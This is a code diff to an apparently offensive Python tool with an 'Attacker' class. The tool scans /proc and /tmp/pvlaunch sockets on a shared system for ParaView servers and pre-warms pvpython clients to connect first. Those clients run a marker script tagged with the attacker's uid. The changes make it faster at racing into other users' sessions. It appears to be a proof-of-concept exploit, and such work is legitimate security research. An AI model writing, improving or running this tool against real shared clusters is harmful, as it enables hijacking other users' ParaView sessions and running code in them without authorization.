@@ -217,14 +217,18 @@ class Scanner:
             self.scan_commands()
 
     def scan_procs(self):
+        # Every time, for every process: a forked child changes its uid (sshd, slurmstepd) and
+        # then its argv (exec) after it appeared.
         for pid in os.listdir("/proc"):
-            if not pid.isdigit() or pid in self.procs:
+            if not pid.isdigit():
                 continue
             uid = proc_uid(pid)
             raw = read("/proc/%s/cmdline" % pid)
             if uid is None or raw is None or not raw:
                 continue
-            self.procs[pid] = uid
+            if self.procs.get(pid) == (uid, raw):
+                continue
+            self.procs[pid] = (uid, raw)
             if uid != self.uid:
                 continue
             cmd = raw.replace(b"\0", b" ").decode(errors="replace").strip()
@@ -257,7 +261,7 @@ class Scanner:
             except OSError:
                 continue
             interesting = (
-                owner == self.uid
+                owner in (self.uid, "hidden")
                 or path.startswith("/tmp/pvlaunch")
                 or path.startswith(self.home)
             )
@@ -479,6 +483,8 @@ CLIENT_WORKER = r"""
 import json, os, sys, time
 from paraview import servermanager as sm
 from paraview.modules.vtkRemotingCore import vtkProcessModule, vtkRemotingCoreConfiguration
+if "--eager" in sys.argv:
+    import paraview.simple  # 2 s: now rather than between the handshake and the code
 # pvpython replaces sys.stdin and sys.stdout: talk over the file descriptors themselves.
 requests = open(0, "r", closefd=False)
 def print(text, flush=True):
@@ -514,8 +520,9 @@ for line in requests:
 class ClientPool:
     """pvpython processes started ahead of time: connecting is then a matter of milliseconds."""
 
-    def __init__(self, size, script):
+    def __init__(self, size, script, eager):
         self.size = size
+        self.eager = eager
         self.script = script
         self.jobs = queue.PriorityQueue()
         self.seq = 0
@@ -537,7 +544,7 @@ class ClientPool:
     def start_proc(self):
         env = dict(os.environ)
         p = subprocess.Popen(
-            ["pvpython", "--force-offscreen-rendering", "-c", CLIENT_WORKER],
+            ["pvpython", "--force-offscreen-rendering", "-c", CLIENT_WORKER] + (["--eager"] if self.eager else []),
             stdin=subprocess.PIPE,
             stdout=subprocess.PIPE,
             stderr=subprocess.DEVNULL,
@@ -691,10 +698,11 @@ class Attacker:
         self.tlock = threading.Lock()
         self.targets = {}
         script = MARKER_SCRIPT % {"marker": args.marker_name, "attacker": "uid %d" % os.getuid()}
-        # Two clients kept for what answers like ParaView (or a hop), one for the rest: a
-        # silent listener holds a client until it gives up, and must not delay the real thing.
-        self.pool = ClientPool(2, script)
-        self.slow_pool = ClientPool(1, script)
+        # A client kept ready (ParaView's Python loaded) for what answers like ParaView or a
+        # hop, another for the rest: a silent listener holds a client until it gives up, and
+        # must not delay the real thing.
+        self.pool = ClientPool(1, script, eager=True)
+        self.slow_pool = ClientPool(1, script, eager=False)
         self.servers = HostileServers(3)
         self.bridges = []
 
